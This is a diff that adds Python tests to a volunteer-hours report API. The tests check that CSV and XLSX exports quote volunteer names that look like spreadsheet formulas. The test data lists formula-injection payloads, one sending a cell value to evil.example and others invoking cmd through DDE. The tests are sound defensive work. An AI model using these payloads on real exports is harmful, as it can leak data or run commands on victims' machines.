@@ -125,3 +125,48 @@ def test_csv_has_the_same_numbers_as_the_json(api, history):  # noqa: F811
         [f["label"], f["value"], f["previous"], f["change"]] for f in body["figures"]]
     hours = figures(body)[f"volunteer.{history['v1'].pk}.hours"]["label"]
     assert [r[1] for r in rows if r[0] == hours] == ["3,5"]  # a decimal comma in Russian
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_volunteer_named_like_a_formula_is_text_in_the_xlsx(api, history, name):  # noqa: F811
+    user = history["v1"].user
+    user.last_name = name
+    user.save(update_fields=["last_name"])
+    client = api.as_role("librarian")
+    params = {**OCTOBER, "branch": history["b"].pk}
+    body = client.get(URL, params).json()
+    label = figures(body)[f"volunteer.{history['v1'].pk}.hours"]["label"]
+    assert label.startswith(name)
+
+    response = client.get("/api/v1/reports/summary.xlsx", params)
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    row = cells["'" + label]
+    assert row[0].data_type == "s"  # a string cell, never a formula
+    assert (row[1].data_type, row[1].value) == ("n", 3.5)
+    # Every figure stays a number.
+    assert all(c.data_type == "n" for r in sheet.iter_rows(min_row=2) for c in r[1:])
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_volunteer_named_like_a_formula_is_quoted_in_the_csv(api, history, name):  # noqa: F811
+    user = history["v1"].user
+    user.last_name = name
+    user.save(update_fields=["last_name"])
+    client = api.as_role("librarian")
+    # November against October: the volunteer's hours went down, a negative change.
+    params = {**OCTOBER, "number": 11, "branch": history["b"].pk}
+    body = client.get(URL, params).json()
+    label = figures(body)[f"volunteer.{history['v1'].pk}.hours"]["label"]
+
+    response = client.get("/api/v1/reports/summary.csv", params)
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    # The label is quoted; the figures are numbers, not text: "-3,5" is written as it is.
+    assert [r for r in rows if r[0].endswith(label)] == [["'" + label, "0", "3,5", "-3,5"]]
+    assert not any(v.startswith("'") for r in rows[1:] for v in r[1:])
